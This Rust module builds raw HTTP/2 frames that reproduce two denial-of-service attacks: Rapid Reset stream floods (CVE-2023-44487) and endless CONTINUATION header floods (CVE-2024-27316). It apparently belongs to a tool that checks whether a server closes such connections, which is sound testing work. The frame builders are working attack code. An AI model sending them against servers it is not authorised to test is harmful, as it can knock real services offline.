//! HTTP/2 frames that no client library sends, and enough reading of frames to notice an end.

use std::io;

use bytes::Bytes;
use http::Request;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

/// The client's connection preface: RFC 9113 section 3.4.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Bytes that every peer accepts in one frame: RFC 9113 section 4.2.
const LARGEST: usize = 16_384;
/// Streams opened and reset in one turn: a server that allows 1,000 requests per connection, like nginx, ends it within
/// a second.
const RESETS: u32 = 200;
/// CONTINUATION frames of one turn, of 1 KiB each.
const CONTINUATIONS: u32 = 20;

// RFC 9113 section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// RFC 9113 section 7.
const CANCEL: u32 = 8;

/// Sends the preface and reads the server's settings; fails if the server refuses or closes.
pub(super) async fn greet(stream: &mut (impl AsyncRead + AsyncWrite + Unpin)) -> io::Result<()> {
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    stream.flush().await?;
    while next(stream).await? != (SETTINGS, 0) {}
    stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    stream.flush().await
}

/// Reads until the server sends GOAWAY or closes; other frames end nothing.
pub(super) async fn end(from: &mut (impl AsyncRead + Unpin)) {
    while !matches!(next(from).await, Ok((GOAWAY, _)) | Err(_)) {}
}

/// The next frame's type and flags; its payload is skipped.
async fn next(from: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u8)> {
    let mut head = [0; 9];
    from.read_exact(&mut head).await?;
    let [high, middle, low, kind, flags, ..] = head;
    let length = u64::from(u32::from_be_bytes([0, high, middle, low]));
    let passed = tokio::io::copy(&mut from.take(length), &mut tokio::io::sink()).await?;
    if passed < length { Err(io::ErrorKind::UnexpectedEof.into()) } else { Ok((kind, flags)) }
}

/// A request's fields as literals without indexing, so that they mean the same on each stream (RFC 7541 section 6.2.2);
/// none if they need more than a frame.
pub(super) fn fields(request: &Request<Bytes>) -> Option<Vec<u8>> {
    let uri = request.uri();
    let pseudo = [
        (":method", request.method().as_str()),
        (":scheme", uri.scheme_str().unwrap_or_default()),
        (":authority", uri.authority().map_or("", |authority| authority.as_str())),
        (":path", uri.path_and_query().map_or("/", |path| path.as_str())),
    ];
    let mut block: Vec<u8> = pseudo.iter().flat_map(|(name, value)| literal(name, value.as_bytes())).collect();
    block.extend(request.headers().iter().flat_map(|(name, value)| literal(name.as_str(), value.as_bytes())));
    (block.len() <= LARGEST).then_some(block)
}

/// Streams that are opened with these fields and reset at once (CVE-2023-44487).
pub(super) fn resets(fields: &[u8], ends: bool, turn: u32) -> Vec<u8> {
    let flags = END_HEADERS | if ends { END_STREAM } else { 0 };
    let pair = |number| {
        // Streams of clients are odd: RFC 9113 section 5.1.1.
        let stream = 2 * number + 1;
        [frame(HEADERS, flags, stream, fields), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
    };
    (turn * RESETS..(turn + 1) * RESETS).flat_map(pair).collect()
}

/// The beginning of an endless head.
pub(super) fn begin(fields: &[u8]) -> Vec<u8> {
    frame(HEADERS, 0, 1, fields)
}

/// More of it, and no end (CVE-2024-27316).
pub(super) fn continuations() -> Vec<u8> {
    (0..CONTINUATIONS).flat_map(|_| frame(CONTINUATION, 0, 1, &literal("x-note", &[b'a'; 1000]))).collect()
}

/// RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn literal(name: &str, value: &[u8]) -> Vec<u8> {
    [vec![0], text(name.as_bytes()), text(value)].concat()
}

/// The text, uncompressed, after its length with a seven-bit prefix (RFC 7541 section 5.1).
fn text(text: &[u8]) -> Vec<u8> {
    let mut out = vec![u8::try_from(text.len()).unwrap_or(127).min(127)];
    let mut more = text.len().checked_sub(127);
    while let Some(rest) = more {
        let [low, ..] = rest.to_le_bytes();
        out.push(if rest < 128 { low } else { low | 128 });
        more = (rest >= 128).then_some(rest / 128);
    }
    out.extend(text);
    out
}

#[cfg(test)]
mod tests;
